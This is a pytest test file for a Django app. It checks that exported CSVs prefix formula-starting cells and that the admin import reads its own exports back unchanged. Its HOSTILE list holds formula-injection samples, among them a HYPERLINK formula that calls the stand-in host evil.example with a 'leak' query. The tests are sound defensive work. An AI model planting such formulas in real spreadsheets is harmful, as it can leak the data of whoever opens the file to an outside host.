"""Formula injection: every CSV or spreadsheet the app writes (report CSVs and the admin's
import-export files) goes through one neutralising rule, and the admin's import reads its own
exports back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from annotations.exporters import FORMATS
from annotations.exporters._common import FORMULA_STARTS, neutralise, restore
from annotations.exporters.scope import Scope
from annotations.models import Article, Source
from tests import security_support as support
from tests.factories import ClaimFactory, SourceFactory

pytestmark = pytest.mark.django_db

# Every start a spreadsheet reads as a formula, the fullwidth forms included.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example/")',
    "＋1＋2",
    "－2＋3",
    "＠SUM(A1)",
]


def admin_export(client, user) -> list[list[str]]:
    """The admin's Source export as CSV, every column ticked."""
    (response,) = [
        response
        for label, response, file_format in support.admin_export_downloads(client, user)
        if "annotations.Source " in label and file_format().get_title() == "csv"
    ]
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def admin_import(client, data: bytes):
    preview = client.post(
        reverse("admin:annotations_source_import"),
        {
            "format": "0",
            "resource": "0",
            "import_file": SimpleUploadedFile("sources.csv", data, "text/csv"),
        },
    )
    assert preview.status_code == 200
    confirm = preview.context["confirm_form"]
    assert confirm is not None, preview.content.decode()[:2000]
    return client.post(
        reverse("admin:annotations_source_process_import"), confirm.initial | {"resource": "0"}
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_admin_source_export_prefixes_every_formula_cell(client, admin_user, value):
    SourceFactory(
        title=value,
        publisher=value,
        notes=value,
        reliability_rationale=value,
        url="https://stats.example/buses",
    )
    client.force_login(admin_user)
    header, row = admin_export(client, admin_user)
    cells = dict(zip(header, row, strict=True))
    for column in ("title", "publisher", "notes", "reliability_rationale"):
        assert cells[column] == "'" + value, column
    assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", ["＝1+1", "＋1", "－1", "＠SUM(A1)"])
def test_report_csv_prefixes_fullwidth_formula_starts_too(value):
    claim = ClaimFactory()
    claim.statement = value
    claim.save()
    out = io.StringIO()
    FORMATS["csv"].write(Article.objects.all(), Scope.INTERNAL, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue()[1:], newline="")))
    assert rows[0]["statement"] == "'" + value


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "''+twice", "'plain", "plain"])
def test_admin_export_then_import_gives_back_the_same_text(client, admin_user, value):
    source = SourceFactory(title=value, notes=value, url="https://stats.example/buses")
    client.force_login(admin_user)
    rows = admin_export(client, admin_user)
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    Source.objects.update(title="changed", notes="changed")
    assert admin_import(client, out.getvalue().encode()).status_code == 302
    source.refresh_from_db()
    assert (source.title, source.notes) == (value, value)


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", ["12.4 million", "", "a=b", "'quoted", "email@example.org"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value
    assert restore(value) == value
